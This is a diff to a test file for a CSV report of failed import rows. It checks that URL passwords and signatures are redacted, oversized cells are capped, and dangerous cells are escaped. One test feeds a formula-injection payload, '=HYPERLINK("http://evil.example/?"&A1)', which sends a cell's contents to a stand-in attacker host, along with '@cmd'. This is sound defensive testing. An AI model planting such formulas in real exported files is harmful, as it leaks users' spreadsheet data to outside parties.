@@ -44,6 +44,20 @@ describe('failed-rows CSV', () => {
     ]);
   });
 
+  test("a photo URL's credentials and signature never reach the file, and a huge cell is capped", async () => {
+    const dir = await tempDir();
+    const file = join(dir, 'failed.csv');
+    const report = new FailedRowsReport({ file, headers: HEADERS, delimiter: ',', encoding: 'utf8', imageColumn: 'photo' });
+    await report.row(failed(2, 'url_not_allowed', person('E2', 'Ana', 'http://ana:S3cretPw@hr.example/photo/2?sig=abcdef123456')));
+    await report.row(failed(3, 'image_too_small', person('E3', 'x'.repeat(100_000))));
+    await report.close();
+    const text = await readFile(file, 'utf8');
+    expect(text).not.toContain('S3cretPw');
+    expect(text).not.toContain('abcdef123456');
+    expect(text).toContain('http://hr.example/photo/2?…');
+    expect(text.length).toBeLessThan(5_000);
+  });
+
   test("the input's delimiter and encoding: semicolons in UTF-16LE stay semicolons in UTF-16LE", async () => {
     const dir = await tempDir();
     const file = join(dir, 'failed.csv');
@@ -78,7 +92,8 @@ describe('failed-rows CSV', () => {
     await report.row(failed(4, 'user_not_found', person('=HYPERLINK("http://evil.example/?"&A1)', '@cmd'), '-x not found'));
     await report.close();
     const [, row] = records(await readFile(file, 'utf8'));
-    expect(row!.slice(0, 2)).toEqual(['\'=HYPERLINK("http://evil.example/?"&A1)', "'@cmd"]);
+    // (The URL's query is also cut to `?…`: report cells never carry a URL's secrets.)
+    expect(row!.slice(0, 2)).toEqual(['\'=HYPERLINK("http://evil.example/?…"&A1)', "'@cmd"]);
     expect(row![6]).toBe("'-x not found");
   });
 
